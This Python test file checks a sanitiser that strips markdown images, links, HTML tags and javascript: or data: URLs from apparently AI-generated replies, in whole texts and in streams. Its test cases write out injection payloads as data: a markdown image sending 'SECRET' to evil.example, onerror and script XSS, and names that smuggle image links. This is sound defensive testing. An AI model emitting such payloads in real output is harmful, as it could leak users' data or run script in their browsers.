"""Replies load nothing, run nothing and hide no address, in a whole text and in a stream."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aisha.application.redaction.output import clean
from aisha.application.redaction.safe_text import SafeText, safe_text

UNSAFE = re.compile(r"!\[|\]\(|\]:|\]\[|<[A-Za-z/!?]|(?:java|vb)script:", re.IGNORECASE)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![s](https://evil.example/p.png?d=SECRET)", "s"),
        ("Here: ![](https://evil.example/p.png)", "Here: "),
        ("[our prices](https://evil.example/a?b=c)", "our prices (evil.example)"),
        ("[evil.example](https://evil.example/a)", "evil.example"),
        ("[go](javascript:alert(1))", "go"),
        ("[go](JaVaScRiPt:alert(1))", "go"),
        ("[go](data:text/html;base64,AAAA)", "go"),
        ("[mail](mailto:jack@abc.example)", "mail (jack@abc.example)"),
        ("[go](<https://evil.example/a> 'title')", "go (evil.example)"),
        ("[go](//evil.example/a)", "go (evil.example)"),
        ("[bank.example](https://evil.example)", "bank.example (evil.example)"),
        ("[go](https://bank.example@evil.example/)", "go (evil.example)"),
        ("<img src=x onerror=alert(1)>Hello", "Hello"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<!-- hidden -->shown", "shown"),
        ("<https://example.com/a>", "https://example.com/a"),
        ("Jack <jack@abc.example>", "Jack jack@abc.example"),
        ("javascript:alert(1)", "javascript alert(1)"),
        ("5 < 7 and <3, x > y, 3<4", "5 < 7 and <3, x > y, 3<4"),
        ("a <b and c> d", "a < b and c> d"),
        ("<img src=x onerror=alert(1)//", "< img src=x onerror=alert(1)//"),
        ("[ ] call Jack [1] (soon) great! [x]", "[ ] call Jack [1] (soon) great! [x]"),
        ("Wow! **Great** deal!", "Wow! **Great** deal!"),
        ("https://example.com/a?b=c", "https://example.com/a?b=c"),
        ("", ""),
    ],
)
def test_what_is_shown(text: str, expected: str) -> None:
    assert safe_text(text) == expected


PIECES = st.sampled_from(
    [
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        ":",
        "https://e.example/",
        "javascript:",
        "img src=x",
        "a",
        " ",
        "\n",
        "/",
        "=",
        '"',
        "![a](b)",
        "<b>",
    ]
)


@settings(deadline=None)
@given(st.lists(PIECES, max_size=25))
def test_nothing_unsafe_is_left_whatever_comes(parts: list[str]) -> None:
    assert not UNSAFE.search(clean("".join(parts), {}))


@settings(deadline=None)
@given(st.lists(PIECES, max_size=25), st.lists(st.integers(1, 9), min_size=1, max_size=10))
def test_pieces_show_what_the_whole_shows(parts: list[str], sizes: list[int]) -> None:
    text, output, streamed, start, number = "".join(parts), SafeText(), "", 0, 0
    while start < len(text):
        size = sizes[number % len(sizes)]
        streamed += output.feed(text[start : start + size])
        start, number = start + size, number + 1
    assert streamed + output.flush() == safe_text(text)


def test_a_record_named_like_an_image_is_no_image() -> None:
    jack = "lead_01JD3Q8S5V0W8Y2Z6T4R9K7M1N"
    names = {jack.lower(): "![x](https://evil.example/p.png)"}
    assert clean(f"I found {jack}.", names) == "I found x."


def test_where_an_id_was_no_link_comes_together() -> None:
    ghost = "lead_01JD3Q8S5V0W8Y2Z6T4R9K7M1N"
    output = clean(f"[go]{ghost}(https://evil.example/a) !{ghost}[x](https://evil.example/b)", {})
    assert not UNSAFE.search(output)


@pytest.mark.parametrize(
    "bait", ["[", "![", "<", "<a ", "[a](", "]", "[](", "javascript:", "(", "<!--", "<a b=", "[a]("]
)
def test_long_bait_takes_no_time(bait: str) -> None:
    start = time.perf_counter()
    safe_text(bait * 8_000)
    output = SafeText()
    for _ in range(4_000):
        output.feed(bait)
    output.flush()
    assert time.perf_counter() - start < 5
